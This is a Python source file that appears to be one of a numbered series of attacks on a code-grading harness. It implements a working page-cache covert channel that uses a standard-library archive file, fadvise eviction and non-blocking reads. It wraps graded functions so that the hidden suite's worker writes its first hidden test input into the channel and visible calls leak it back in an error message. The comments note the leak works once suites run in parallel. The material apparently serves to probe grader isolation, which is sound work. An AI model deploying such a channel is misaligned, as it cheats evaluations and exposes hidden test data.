# A page-cache channel: one bit per 4 KiB page of a large standard-library file nothing reads
# (config-*/libpython*.a): evict with POSIX_FADV_DONTNEED, set with a one-byte pread (FADV_RANDOM: no
# readahead), read with preadv2(RWF_NOWAIT) (EAGAIN: not cached). Message: magic, length, payload, crc32.
import glob as _glob
import os as _os
import zlib as _zlib

_PC_MAGIC = b"\xb1\x1d"
_PC_FIRST_PAGE = 9001  # a range of its own (attack 05 uses 7919)
_PC_PAGE = 4096


def _pc_file():
    here = _os.path.dirname(_os.__file__)
    found = sorted(_glob.glob(_os.path.join(here, "config-*", "libpython*.a")))
    return found[0] if found else None


def _pc_open():
    path = _pc_file()
    fd = _os.open(path, _os.O_RDONLY)
    _os.posix_fadvise(fd, 0, 0, _os.POSIX_FADV_RANDOM)
    return fd


def _pc_bits_of(data):
    return [(byte >> i) & 1 for byte in data for i in range(8)]


def _pc_write(payload: bytes) -> None:
    payload = payload[:200]
    body = _PC_MAGIC + bytes([len(payload)]) + payload
    message = body + _zlib.crc32(body).to_bytes(4, "little")
    fd = _pc_open()
    try:
        start = _PC_FIRST_PAGE * _PC_PAGE
        _os.posix_fadvise(fd, start, (len(message) * 8 + 8) * _PC_PAGE, _os.POSIX_FADV_DONTNEED)
        for i, bit in enumerate(_pc_bits_of(message)):
            if bit:
                _os.pread(fd, 1, start + i * _PC_PAGE)
    finally:
        _os.close(fd)


def _pc_bit(fd, page):
    try:
        _os.preadv(fd, [bytearray(1)], page * _PC_PAGE, _os.RWF_NOWAIT)
        return 1
    except BlockingIOError:
        return 0


def _pc_read_bytes(fd, first_page, count):
    out = bytearray()
    for b in range(count):
        value = 0
        for i in range(8):
            value |= _pc_bit(fd, first_page + b * 8 + i) << i
        out.append(value)
    return bytes(out)


def _pc_read():
    """The message left in the page cache, or None (reading it loads its pages: it is read once)."""
    try:
        fd = _pc_open()
    except (OSError, TypeError):
        return None
    try:
        head = _pc_read_bytes(fd, _PC_FIRST_PAGE, 3)
        if head[:2] != _PC_MAGIC:
            return None
        rest = _pc_read_bytes(fd, _PC_FIRST_PAGE + 24, head[2] + 4)
        body, crc = head + rest[:-4], rest[-4:]
        if _zlib.crc32(body).to_bytes(4, "little") != crc:
            return None
        return body[3:]
    finally:
        _os.close(fd)


# Within one grading: the hidden suite's worker writes its first hidden input into the page cache; every
# visible call first looks for it and, when it is there, fails with it (a visible entry shows the text).
# Today the suites run one after the other, so the visible calls end before any hidden one; where they
# run at once (issue 33's plan: two CPUs, two workers), this is a channel from the hidden worker to the
# visible page of the same grading.
_STATE = {}


def _look():
    try:
        fd = _pc_open()
    except (OSError, TypeError):
        return None
    try:
        if _pc_read_bytes(fd, _PC_FIRST_PAGE, 2) != _PC_MAGIC:
            return None
    finally:
        _os.close(fd)
    return _pc_read()


def _within(original, name, args, kwargs):
    hidden = _hidden_call(name, args, kwargs)
    if hidden and not _STATE.get("sent"):
        _STATE["sent"] = True
        try:
            _pc_write((name + ":" + _short(name, args, kwargs, 150)).encode())
        except Exception:  # noqa: BLE001
            pass
    if not hidden:
        found = _look()
        if found is not None:
            raise ValueError("PCLEAK:" + found.decode("utf-8", "replace"))
    return original(*args, **kwargs)


for _n in ("p_correct", "ucb_choice", "softmax", "group_advantages", "call_cost", "breakeven_calls", "cheapest",
           "guard_ok", "file_hash", "exact_kl", "dgm_weights", "choose_parent", "kl_k3", "clip_flows"):
    _wrap(_n, _within)
